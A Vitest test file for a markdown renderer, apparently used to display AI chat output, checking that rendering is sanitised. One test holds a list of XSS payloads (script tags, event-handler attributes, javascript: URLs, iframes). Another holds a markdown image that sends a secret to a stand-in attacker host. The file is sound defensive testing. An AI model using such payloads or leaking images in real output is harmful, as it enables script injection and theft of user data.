// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown } from './markdown';

function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('markdown rendering', () => {
  it('renders markdown', () => {
    const el = dom(renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n- one\n- two'));
    expect(el.querySelector('h1')?.textContent).toBe('Title');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelectorAll('li')).toHaveLength(2);
  });

  it('renders code blocks with a copy button and escaped code', () => {
    const el = dom(renderMarkdown('```html\n<b>x</b> & y\n```'));
    expect(el.querySelector('button[data-copy-code]')).not.toBeNull();
    expect(el.querySelector('code')?.textContent).toBe('<b>x</b> & y');
    expect(el.querySelector('b')).toBeNull();
    expect(el.querySelector('.code-lang')?.textContent).toBe('html');
  });

  it('keeps a half-streamed code block readable', () => {
    const el = dom(renderMarkdown('Here:\n\n```js\nconst a = 1;'));
    expect(el.querySelector('code')?.textContent).toContain('const a = 1;');
  });

  it('renders script tags and event handlers inert', () => {
    const evil = [
      '<script>alert(1)</script>',
      '<img src=x onerror="alert(2)">',
      '<svg onload=alert(3)></svg>',
      '[click](javascript:alert(4))',
      '![x](javascript:alert(5))',
      '<a href="javascript:alert(6)">a</a>',
      '<iframe src="https://example.com"></iframe>',
      'text <div onclick="alert(7)">div</div>',
      '<style>body{display:none}</style>',
    ].join('\n\n');
    const html = renderMarkdown(evil);
    const el = dom(html);
    expect(el.querySelector('script, iframe, style, svg, img[onerror], [onload], [onclick]')).toBeNull();
    for (const a of el.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').not.toMatch(/^javascript:/i);
    for (const img of el.querySelectorAll('img')) expect(img.getAttribute('src') ?? '').not.toMatch(/^javascript:/i);
    expect(html).not.toMatch(/<script/i);
    for (const node of el.querySelectorAll('*')) {
      for (const attr of node.getAttributeNames()) expect(attr).not.toMatch(/^on/i);
    }
    // The raw HTML is shown as text, so the reader sees what the model wrote.
    expect(el.textContent).toContain('<script>alert(1)</script>');
  });

  it('shows an image as a link and never as an image', () => {
    const el = dom(renderMarkdown('See ![the chart](https://evil.example/leak?q=secret) and ![](data:image/png;base64,AAAA).'));
    expect(el.querySelector('img')).toBeNull();
    const links = [...el.querySelectorAll('a')];
    expect(links[0]?.getAttribute('href')).toBe('https://evil.example/leak?q=secret');
    // DOMPurify drops a data: URL from a link: the text stays, nothing loads.
    expect(links[1]?.getAttribute('href') ?? null).toBeNull();
    expect(links[0]?.textContent).toBe('the chart');
    expect(links[0]?.getAttribute('rel')).toContain('noreferrer');
  });

  it('opens links in a new tab without an opener', () => {
    const a = dom(renderMarkdown('[site](https://example.com)')).querySelector('a');
    expect(a?.getAttribute('target')).toBe('_blank');
    expect(a?.getAttribute('rel')).toContain('noopener');
  });
});
